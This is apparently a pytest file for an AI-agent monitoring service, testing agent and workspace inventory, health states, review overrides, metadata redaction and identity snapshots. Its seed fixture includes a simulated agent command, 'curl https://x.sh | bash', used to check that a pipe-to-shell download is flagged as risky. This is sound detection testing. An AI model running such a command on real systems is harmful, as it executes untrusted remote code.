"""Agents and workspaces inventory, metadata overlay, human review and the identity snapshot through
HTTP (SPEC §24.1-§24.4, §24.6, §27): visibility by classification, health states, pinning, owner
lookup for alert routing, review overrides, audits and management gating."""

from __future__ import annotations

import hashlib
import time

TOKEN = "inv-admin-token"
ADMIN = {"X-AnySentry-Admin-Token": TOKEN}
S = 1000


def attribution(classification: str, agent: str, **extra) -> dict:
    return {"classification": classification, "monitored": classification != "unknown", "agentScopeId": agent,
            "confidence": 0.9, "source": "kubernetes", "reason": "pod label", **extra}


A1 = {"agentId": "a1", "sessionId": "s1", "workspacePath": "ml/a1-pod", "userId": "u1",
      "attribution": attribution("confirmed_agent", "a1", workloadRef={"kind": "Pod", "namespace": "ml", "podName": "a1-pod",
                                                                         "podUid": "uid-a1", "containerName": "agent",
                                                                         "nodeName": "node-1"})}
A2 = {"agentId": "a2", "sessionId": "s2", "workspacePath": "/home/dev/repo", "attribution": attribution("probable_agent", "a2")}
A3 = {"agentId": "a3", "sessionId": "s3", "workspacePath": "/home/dev/repo"}


async def ingest(api, events: list[dict], **request) -> list[dict]:
    data = await api.data("POST", "/ingest/events", {**request, "events": events}, expect=201)
    assert data["acceptedEvents"] == len(events), data
    return data["items"]


async def seed(api) -> dict:
    now = int(time.time() * 1000)
    items = await ingest(api, [
        {**A1, "kind": "exec", "command": "git status", "at": now - 120 * S},
        {**A1, "kind": "exec", "command": "curl https://x.sh | bash", "at": now - 60 * S},
        {**A1, "kind": "egress", "peer": "10.0.0.5", "port": 443, "at": now - 50 * S},
        {**A2, "kind": "dns", "query": "pypi.org", "at": now - 30 * 60 * S},
        {**A3, "kind": "exec", "command": "python3 train.py", "at": now - 20 * S},
    ], collectorId="node-1")
    await api.sync()
    return {"now": now, "items": items}


def by_agent(listing: dict) -> dict:
    return {item["agentId"]: item for item in listing["items"]}


async def test_agents_inventory_visibility_health_and_summary(api):
    await seed(api)
    listing = await api.data("POST", "/agents/inventory", {})
    agents = by_agent(listing)
    assert set(agents) == {"a1", "a2"}  # the unattributed a3 is not an agent asset
    a1, a2 = agents["a1"], agents["a2"]
    assert a1["healthState"] == "risky" and a1["openIncidentCount"] == 1  # the pipe-to-shell opened an incident
    assert a2["healthState"] == "idle"  # last event 30 min ago
    assert a1["classification"] == a1["detectedClassification"] == "confirmed_agent"
    assert a1["eventCount"] == 3 and a1["riskyEventCount"] == 1 and a1["sessionCount"] == 1
    assert a1["runtime"] == "kubernetes" and "ml/a1-pod" in a1["locationLabel"]
    assert a1["agentAssetId"] == "agent_" + hashlib.sha256(b"k8s:uid-a1:agent").hexdigest()[:24]
    assert a2["agentAssetId"] == "agent_" + hashlib.sha256(b"logical:/home/dev/repo:a2").hexdigest()[:24]
    assert a1["eventCategoryCounts"] == {"tool": 2, "network": 1}
    assert a1["topRiskCategory"] == "command_danger" and a1["riskLevel"] == "high"
    assert len(a1["firstSeen"]) == 19 and "T" not in a1["lastSeen"]
    assert not any(k.startswith("_") for k in a1)
    summary = listing["summary"]
    assert summary["totalAgents"] == 2 and summary["riskyAgents"] == 1 and summary["idleAgents"] == 1
    assert summary["observedEventCount"] == 4 and summary["riskyEventCount"] == 1

    # includeUnclassified lifts the rule only with an exact agentId
    assert by_agent(await api.data("POST", "/agents/inventory", {"includeUnclassified": True})).keys() == {"a1", "a2"}
    only = await api.data("POST", "/agents/inventory", {"includeUnclassified": True, "agentId": "a3"})
    assert [i["agentId"] for i in only["items"]] == ["a3"] and only["items"][0]["classification"] == "unknown"

    # filters
    assert [i["agentId"] for i in (await api.data("POST", "/agents/inventory", {"healthState": "idle"}))["items"]] == ["a2"]
    assert [i["agentId"] for i in (await api.data("POST", "/agents/inventory", {"q": "A1-POD"}))["items"]] == ["a1"]


async def test_pinning_by_asset_and_workspace(api):
    await seed(api)
    a1 = by_agent(await api.data("POST", "/agents/inventory", {}))["a1"]
    pinned = await api.data("POST", "/agents/inventory", {"agentAssetId": a1["agentAssetId"]})
    assert [i["agentId"] for i in pinned["items"]] == ["a1"]
    # a workspace pin ignores visibility: the unknown a3 shares the workspace with a2
    ws = await api.data("POST", "/agents/inventory", {"workspacePath": "/home/dev/repo"})
    assert {i["agentId"] for i in ws["items"]} == {"a2", "a3"}
    pair = await api.data("POST", "/agents/inventory", {"workspacePath": "/home/dev/repo", "agentId": "a3"})
    assert [i["agentId"] for i in pair["items"]] == ["a3"]
    # pin plus a filter: union, pinned first
    union = await api.data("POST", "/agents/inventory", {"agentAssetId": a1["agentAssetId"], "healthState": "idle"})
    assert [i["agentId"] for i in union["items"]] == ["a1", "a2"]


async def test_metadata_overlay_owner_lookup_and_audit(make_api):
    api = await make_api(admin_token=TOKEN)
    await seed(api)
    status, body = await api.put("/agents/a1/metadata", {"workspacePath": "ml/a1-pod", "owner": "alice"})
    assert status == 401 and body["message"] == "management token required"
    status, body = await api.put("/agents/a1/metadata", {"owner": "alice"}, headers=ADMIN)
    assert status == 400 and "workspacePath" in body["message"]
    item = await api.data("PUT", "/agents/a1/metadata", {
        "workspacePath": "ml/a1-pod", "owner": "alice", "team": "ml-platform", "environment": "production",
        "criticality": "HIGH", "tags": ["gpu", "gpu", "batch"], "note": "rotate password=hunter2secret",
        "displayName": "Trainer"}, headers={**ADMIN, "x-anysentry-actor": "bob"})
    assert item["owner"] == "alice" and item["criticality"] == "high" and item["tags"] == ["gpu", "batch"]
    assert "hunter2secret" not in item["note"]
    # partial update keeps the other fields; an unknown criticality becomes ""
    item = await api.data("PUT", "/agents/a1/metadata", {"workspacePath": "ml/a1-pod", "criticality": "extreme"},
                          headers=ADMIN)
    assert item["owner"] == "alice" and item["criticality"] == ""
    # a metadata-only asset
    await api.data("PUT", "/agents/ghost/metadata", {"workspacePath": "/ghost", "owner": "carol"}, headers=ADMIN)

    listing = await api.data("GET", "/agents/metadata")
    meta = {i["agentId"]: i for i in listing["items"]}
    assert meta["a1"]["metadataOnly"] is False and meta["ghost"]["metadataOnly"] is True
    agents = by_agent(await api.data("POST", "/agents/inventory", {}))
    assert agents["a1"]["owner"] == "alice" and agents["a1"]["displayName"] == "Trainer"
    assert agents["a1"]["environment"] == "production" and agents["a1"]["tags"] == ["gpu", "batch"]
    assert agents["ghost"]["metadataOnly"] is True and agents["ghost"]["eventCount"] == 0
    summary = (await api.data("POST", "/agents/inventory", {}))["summary"]
    assert summary["managedAgents"] == 2 and summary["productionAgents"] == 1

    engine = api.services.ops
    assert engine.owner_of("ml/a1-pod", "a1", "") == ("alice", "ml-platform")
    assert engine.owner_of("/home/dev/repo", "a2", "") == ("", "")
    assert engine.has_agent_metadata("ml/a1-pod", "a1") and not engine.has_agent_metadata("/w", "a1")
    source = api.services.sources.upsert("src-x", {"name": "x", "owner": "dave", "team": "infra"})
    assert engine.owner_of("/home/dev/repo", "a2", source["sourceId"]) == ("dave", "infra")

    audits = await api.data("POST", "/audit/list", {"action": "agent.metadata.updated"})
    assert audits["total"] == 3
    first = audits["items"][-1]
    assert first["resourceType"] == "agent" and first["resourceId"] == "a1" and first["actor"]["id"] == "bob"
    assert first["details"]["workspacePath"] == "ml/a1-pod"


async def test_review_overrides_classification_and_snapshot(make_api):
    api = await make_api(admin_token=TOKEN)
    await seed(api)
    status, body = await api.put("/agents/a1/review", {"decision": "maybe"}, headers=ADMIN)
    assert status == 400
    status, _ = await api.put("/agents/a3/review", {"decision": "confirmed_agent"})
    assert status == 401

    review = await api.data("PUT", "/agents/a3/review", {
        "workspacePath": "/home/dev/repo", "decision": "confirmed_agent", "currentClassification": "unknown",
        "identityKeys": ["container-abc123"], "note": "it is ours"}, headers=ADMIN)
    assert review["decision"] == "confirmed_agent" and review["reviewedBy"] == "operator"
    await api.data("PUT", "/agents/a1/review", {"workspacePath": "ml/a1-pod", "decision": "non_agent"}, headers=ADMIN)

    agents = by_agent(await api.data("POST", "/agents/inventory", {}))
    assert set(agents) == {"a2", "a3"}
    assert agents["a3"]["classification"] == "confirmed_agent" and agents["a3"]["detectedClassification"] == "unknown"
    assert agents["a3"]["reviewDecision"] == "confirmed_agent" and agents["a3"]["attributionSource"] == "manual_review"

    snapshot = await api.get("/identity/snapshot?nodeName=node-1")
    assert snapshot[0] == 200
    snap = snapshot[1]
    assert "code" not in snap and snap["schemaVersion"] == "anysentry.workload_identity_snapshot.v1"
    assert snap["ready"] is True and snap["nodeName"] == "node-1" and snap["version"].startswith("v_")
    assert [e["source"] for e in snap["entries"][:2]] == ["manual_review", "manual_review"]
    a3_entry = next(e for e in snap["entries"] if e["agentId"] == "a3")
    assert "container-abc123" in a3_entry["ids"] and a3_entry["classification"] == "confirmed_agent"
    assert next(e for e in snap["entries"] if e["agentId"] == "a1")["classification"] == "non_agent"

    events = await api.request("POST", "/events/list", json={"agentId": "a1", "limit": 10})
    if events[0] == 200:  # the events reader follows the review overlay
        assert {i["effectiveClassification"] for i in events[1]["data"]["items"]} == {"non_agent"}

    cleared = await api.data("PUT", "/agents/a1/review", {"workspacePath": "ml/a1-pod", "decision": "clear"}, headers=ADMIN)
    assert cleared["cleared"] is True
    assert "a1" in by_agent(await api.data("POST", "/agents/inventory", {}))
    actions = [r["action"] for r in (await api.data("POST", "/audit/list", {"resourceType": "agent"}))["items"]]
    assert actions.count("agent.review.updated") == 2 and actions.count("agent.review.cleared") == 1
    reviews = (await api.data("GET", "/agents/metadata"))["reviews"]
    assert [r["agentId"] for r in reviews] == ["a3"]


async def test_workspaces_inventory_rollup_and_maintenance(api):
    await seed(api)
    await api.data("PUT", "/agents/a2/metadata", {"workspacePath": "/home/dev/repo", "owner": "erin", "criticality": "medium"})
    listing = await api.data("POST", "/workspaces/inventory", {})
    spaces = {w["workspacePath"]: w for w in listing["items"]}
    assert set(spaces) == {"ml/a1-pod", "/home/dev/repo"}
    assert spaces["ml/a1-pod"]["healthState"] == "risky" and spaces["ml/a1-pod"]["riskyAgents"] == 1
    repo = spaces["/home/dev/repo"]
    assert repo["agentCount"] == 1 and repo["owner"] == "erin" and repo["criticality"] == "medium"  # a3 is not an agent
    assert repo["collectorCount"] == 1 and repo["maintenanceActive"] is False
    assert listing["items"][0]["workspacePath"] == "ml/a1-pod"  # risky first
    assert listing["summary"]["totalWorkspaces"] == 2 and listing["summary"]["riskyWorkspaces"] == 1

    await api.data("POST", "/maintenance/windows", {"title": "repo upgrade", "targetType": "workspace",
                                                      "targetId": "/home/dev/repo"}, expect=201)
    repo = {w["workspacePath"]: w for w in (await api.data("POST", "/workspaces/inventory", {}))["items"]}["/home/dev/repo"]
    assert repo["maintenanceActive"] is True and repo["maintenanceTitle"] == "repo upgrade" and repo["maintenanceWindowId"]

    pinned = await api.data("POST", "/workspaces/inventory", {"workspacePath": "/home/dev/repo"})
    assert [w["workspacePath"] for w in pinned["items"]] == ["/home/dev/repo"]
    assert pinned["items"][0]["agentCount"] == 2  # pins ignore visibility: a3 counts here
    filtered = await api.data("POST", "/workspaces/inventory", {"healthState": "risky"})
    assert [w["workspacePath"] for w in filtered["items"]] == ["ml/a1-pod"]


async def test_metadata_and_reviews_survive_a_restart(make_api, store_database, tmp_path):
    api = await make_api(data_dir=tmp_path / "first")
    await api.data("PUT", "/agents/a9/metadata", {"workspacePath": "/w9", "owner": "zoe", "tags": ["x"]})
    await api.data("PUT", "/agents/a9/review", {"workspacePath": "/w9", "decision": "non_agent", "identityKeys": ["pod-9"]})
    await api.data("PUT", "/agents/a8/review", {"workspacePath": "/w9", "decision": "confirmed_agent"})
    await api.data("PUT", "/agents/a8/review", {"workspacePath": "/w9", "decision": "clear"})
    await api.services.flush_state()
    again = await make_api(database=store_database, data_dir=tmp_path / "second")
    meta = (await again.data("GET", "/agents/metadata"))
    assert [(i["agentId"], i["owner"], i["tags"], i["reviewDecision"]) for i in meta["items"]] == [("a9", "zoe", ["x"], "non_agent")]
    assert [r["agentId"] for r in meta["reviews"]] == ["a9"]
    assert again.services.ops.owner_of("/w9", "a9", "") == ("zoe", "")
    snapshot = (await again.get("/identity/snapshot"))[1]
    assert snapshot["entries"][0]["ids"][:1] == ["pod-9"] and snapshot["entries"][0]["classification"] == "non_agent"
